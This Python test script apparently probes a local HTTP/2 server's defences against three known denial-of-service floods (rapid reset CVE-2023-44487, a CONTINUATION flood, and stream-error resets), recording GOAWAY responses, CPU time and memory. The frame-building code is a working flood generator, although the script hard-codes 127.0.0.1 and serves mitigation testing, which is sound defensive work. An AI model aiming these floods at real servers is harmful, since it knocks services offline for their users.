#!/usr/bin/env python3
"""Abuse probes against an h2c (prior knowledge) server on 127.0.0.1.

    probe.py PORT PID rapid-reset|continuation|error-reset [COUNT]

rapid-reset   COUNT (default 20000) pairs of HEADERS(GET, END_STREAM) + RST_STREAM(CANCEL) on
              new streams, back to back (CVE-2023-44487; h2's max_pending_accept_reset_streams).
continuation  one HEADERS without END_HEADERS, then COUNT (default 100000) CONTINUATION frames,
              each a complete 100-byte literal header, never END_HEADERS (the 2024 CONTINUATION
              flood, h2 0.4.4's frame count / header_list_way_too_large).
error-reset   COUNT (default 5000) requests that each provoke a stream error (a connection-specific
              header field, RST_STREAM PROTOCOL_ERROR from the server; h2's
              max_local_error_reset_streams, RUSTSEC-2024-0003).

Frames are written raw (hyperframe + hpack), so the probe is not held back by a client state
machine; a reader thread parses what the server sends. Prints one line of facts: frames sent
before the server closed, the GOAWAY (code, debug data), responses and resets received, whether
the connection still answers a PING afterwards (when no header block is open), the server's CPU
time (schedstat) and its resident memory before, after and at peak (VmHWM).
"""
import socket
import struct
import sys
import threading
import time

import hpack
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def cpu_ns(pid):
    with open(f"/proc/{pid}/schedstat") as f:
        return int(f.read().split()[0])


def mem_kib(pid):
    out = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(("VmRSS", "VmHWM")):
                k, v = line.split(":")
                out[k] = int(v.split()[0])
    return out


class Reader(threading.Thread):
    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.headers = 0
        self.data = 0
        self.rst = {}
        self.goaway = None
        self.ping_ack = threading.Event()
        self.closed = threading.Event()
        self.closed_at = None

    def run(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    f, length = Frame.parse_frame_header(memoryview(buf[:9]))
                    if len(buf) < 9 + length:
                        break
                    f.parse_body(memoryview(buf[9:9 + length]))
                    buf = buf[9 + length:]
                    if isinstance(f, HeadersFrame):
                        self.headers += 1
                    elif isinstance(f, RstStreamFrame):
                        name = ERRORS.get(f.error_code, str(f.error_code))
                        self.rst[name] = self.rst.get(name, 0) + 1
                    elif isinstance(f, GoAwayFrame):
                        self.goaway = (ERRORS.get(f.error_code, str(f.error_code)),
                                       f.last_stream_id, bytes(f.additional_data))
                    elif isinstance(f, PingFrame) and "ACK" in f.flags:
                        self.ping_ack.set()
                    elif f.type == 0:
                        self.data += 1
        except OSError:
            pass
        self.closed_at = time.monotonic()
        self.closed.set()


def request_block(enc, extra=()):
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"),
                       (":authority", "127.0.0.1")] + list(extra))


def frames(kind, count):
    """Yields (frame bytes, counts toward COUNT)."""
    enc = hpack.Encoder()
    if kind == "rapid-reset":
        for i in range(count):
            sid = 2 * i + 1
            h = HeadersFrame(sid, request_block(enc), flags=["END_STREAM", "END_HEADERS"])
            yield h.serialize() + RstStreamFrame(sid, error_code=8).serialize(), True
    elif kind == "continuation":
        yield HeadersFrame(1, request_block(enc), flags=["END_STREAM"]).serialize(), False
        # A literal header field without indexing, new name: decoded whole in each frame, so
        # the decoder's leftover buffer never grows; only a frame count stops it.
        name, value = b"x-flood", b"a" * 90
        field = b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for _ in range(count):
            yield ContinuationFrame(1, field).serialize(), True
    elif kind == "error-reset":
        for i in range(count):
            sid = 2 * i + 1
            block = request_block(enc, [("connection", "keep-alive")])
            yield HeadersFrame(sid, block, flags=["END_STREAM", "END_HEADERS"]).serialize(), True
    else:
        raise SystemExit(f"unknown probe {kind}")


def main():
    port, pid, kind = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else {
        "rapid-reset": 20000, "continuation": 100000, "error-reset": 5000}[kind]
    sock = socket.create_connection(("127.0.0.1", port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    reader = Reader(sock)
    reader.start()
    mem0, cpu0 = mem_kib(pid), cpu_ns(pid)
    t0 = time.monotonic()
    sock.sendall(PREFACE + SettingsFrame(0, settings={}).serialize()
                 + SettingsFrame(0, flags=["ACK"]).serialize())
    sent, batch, in_batch = 0, [], 0
    send_error = None
    try:
        for raw, counted in frames(kind, count):
            batch.append(raw)
            in_batch += counted
            if len(batch) >= 256:
                sock.sendall(b"".join(batch))
                sent += in_batch
                batch, in_batch = [], 0
                if reader.closed.is_set():
                    break
        if batch:
            sock.sendall(b"".join(batch))
            sent += in_batch
    except OSError as e:
        send_error = type(e).__name__
    t_sent = time.monotonic()
    # Still serving? A PING can only be asked outside an open header block.
    alive = None
    if kind != "continuation" and not reader.closed.is_set():
        try:
            sock.sendall(PingFrame(0, opaque_data=b"probe!!!").serialize())
            alive = reader.ping_ack.wait(5)
        except OSError:
            alive = False
    reader.closed.wait(2)
    mem1, cpu1 = mem_kib(pid), cpu_ns(pid)
    ga = reader.goaway
    print(f"probe={kind} count={count} sent={sent} send_s={t_sent - t0:.3f}"
          f" send_error={send_error}"
          f" goaway={ga[0] + ' last_stream=' + str(ga[1]) + ' debug=' + repr(ga[2].decode(errors='replace')) if ga else None}"
          f" closed_by_server={reader.closed.is_set()}"
          f" close_s={(reader.closed_at - t0) if reader.closed_at else float('nan'):.3f}"
          f" responses={reader.headers} rst_from_server={reader.rst or 0}"
          f" ping_after={alive}"
          f" server_cpu_ms={(cpu1 - cpu0) / 1e6:.1f}"
          f" rss_kib={mem0['VmRSS']}->{mem1['VmRSS']} peak_kib={mem1['VmHWM']}")
    sock.close()


if __name__ == "__main__":
    main()
